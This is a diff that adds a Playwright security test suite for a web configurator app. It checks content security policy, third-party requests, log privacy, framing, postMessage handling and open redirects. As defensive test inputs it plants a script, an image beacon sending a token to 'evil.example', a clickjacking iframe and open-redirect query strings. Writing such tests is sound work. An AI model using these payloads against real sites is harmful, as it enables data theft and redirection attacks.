@@ -1,0 +1,161 @@
+import type { Page } from '@playwright/test';
+import { expect, test } from './visit.ts';
+
+test.use({ serverEnv: { LOG_LEVEL: 'debug' } });
+
+/** What the page wanted to do and its policy forbade, over all pages of the context. */
+async function violationsOf(page: Page): Promise<string[]> {
+  const violations: string[] = [];
+  await page.context().exposeBinding('reportViolation', (_, what: string) => violations.push(what));
+  await page.context().addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sourceFile }) => {
+      const report = (window as unknown as { reportViolation: (what: string) => void }).reportViolation;
+      report(`${location.pathname}: ${violatedDirective} ${blockedURI} ${sourceFile}`);
+    });
+  });
+  return violations;
+}
+
+/** Hosts that were asked for anything, ours left out. */
+function othersAskedBy(page: Page, own: string): Set<string> {
+  const others = new Set<string>();
+  page.context().on('request', (request) => {
+    const { protocol, origin } = new URL(request.url());
+    if (protocol.startsWith('http') && origin !== new URL(own).origin) others.add(request.url());
+  });
+  return others;
+}
+
+test('a whole visit asks nobody else for anything, breaks no policy, and leaves no name in the log (threats 43, 62)', async ({
+  page,
+  visit,
+  server,
+}) => {
+  test.slow();
+  const violations = await violationsOf(page);
+  const others = othersAskedBy(page, server.address);
+  let log = '';
+  server.child.stdout?.on('data', (chunk) => {
+    log += chunk;
+  });
+  const visitor = await visit();
+  await visitor.open();
+  await visitor.toRecommendation({
+    market: 'agricultural',
+    group: 'animal_feed',
+    characteristic: 'mixed_feed',
+    volume: 30,
+    place: 'Zwolle',
+  });
+  await visitor.dialog.locator('li[data-type] button').first().click();
+  await visitor.expectStep('configure');
+  await expect(page.getByText('€').first()).toBeVisible();
+  await visitor.button('step.overview').click();
+  await visitor.expectStep('overview');
+  const fields = {
+    email: `zyxquor-${Date.now()}@example.com`,
+    phone: '+31 6 5123 4987',
+    firstName: 'Zyxquor',
+    lastName: 'Quibblewick',
+    company: 'Zyxquor Farms',
+  };
+  for (const [name, value] of Object.entries(fields)) await page.locator(`#overview-${name}`).fill(value);
+  await page.getByRole('button', { name: 'Email quotation' }).click();
+  await expect(visitor.heading('finalized.title')).toBeVisible();
+
+  const pages = ['/admin', '/admin/prices', '/api/docs', '/budget', '/meeting', '/open/nothing', '/a/b/c'];
+  for (const address of [
+    ...pages,
+    '/sign/en/complete',
+    '/dealer/de/heidkamp',
+    '/dev/mailbox',
+    '/dev/mails',
+  ]) {
+    await page.goto(address, { waitUntil: 'networkidle' });
+  }
+  expect(violations).toEqual([]);
+  expect([...others]).toEqual([]);
+  await expect.poll(() => log).toContain('/api/configurator/create-offer');
+  expect(log).not.toMatch(/zyxquor|quibblewick|5123|zwolle|127\.0\.0\.1/i);
+});
+
+test('a policy that is broken is noticed, and a planted script does not run (threat 43)', async ({
+  page,
+  visit,
+}) => {
+  const violations = await violationsOf(page);
+  const visitor = await visit();
+  await visitor.open();
+  await page.evaluate(() => {
+    const script = document.createElement('script');
+    script.textContent = 'window.planted = true';
+    document.body.append(script);
+    const image = document.createElement('img');
+    image.src = 'https://evil.example/?token';
+    document.body.append(image);
+  });
+  await expect.poll(() => violations.length).toBeGreaterThanOrEqual(2);
+  expect(await page.evaluate(() => 'planted' in window)).toBe(false);
+});
+
+test('no other site shows our pages in a frame (threat 45)', async ({ page, server }) => {
+  for (const address of ['/admin', '/admin/prices', '/', '/sign/en/abcd-efgh-0123', '/api/docs']) {
+    await page.route('http://evil.example/**', (route) =>
+      route.fulfill({
+        contentType: 'text/html',
+        body: `<iframe src="${server.address}${address}"></iframe>`,
+      }),
+    );
+    await page.goto('http://evil.example/');
+    await expect.poll(() => page.frames().length).toBe(2);
+    await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
+    await page.unroute('http://evil.example/**');
+  }
+});
+
+test('a message that does not come from the frame leads nowhere (threats 45, 48)', async ({
+  page,
+  visit,
+}) => {
+  const visitor = await visit();
+  await visitor.open('/sign/en/abcd-efgh-0123');
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+  const before = page.url();
+  // The last message is read after the others were: then nothing more can come of them.
+  await page.evaluate(
+    () =>
+      new Promise<void>((resolve) => {
+        window.addEventListener('message', ({ data }) => data === 'the last' && setTimeout(resolve));
+        for (const message of [
+          'silowright-signed',
+          'silowright-signed-held',
+          'https://evil.example/',
+          'the last',
+        ])
+          window.postMessage(message, '*');
+      }),
+  );
+  expect(page.url()).toBe(before);
+});
+
+test('addresses that ask to be led elsewhere stay with us (threat 48)', async ({ page, server }) => {
+  const own = new URL(server.address).origin;
+  const wish = 'returnTo=https://evil.example&redirect_uri=https://evil.example&next=//evil.example';
+  const left: string[] = [];
+  page.on('framenavigated', (frame) => {
+    if (frame === page.mainFrame() && new URL(frame.url()).origin !== own) left.push(frame.url());
+  });
+  for (const address of [
+    `/admin?${wish}`,
+    `/admin/home?${wish}`,
+    `/sign/%2F%2Fevil.example?${wish}`,
+    `/sign/en/complete?${wish}`,
+    `/open/%2F%2Fevil.example`,
+    `/?${wish}#https://evil.example`,
+    '/dealer/de/..%2F..%2F%2Fevil.example',
+  ]) {
+    await page.goto(address, { waitUntil: 'networkidle' });
+    expect(new URL(page.url()).origin).toBe(own);
+  }
+  expect(left).toEqual([]);
+});
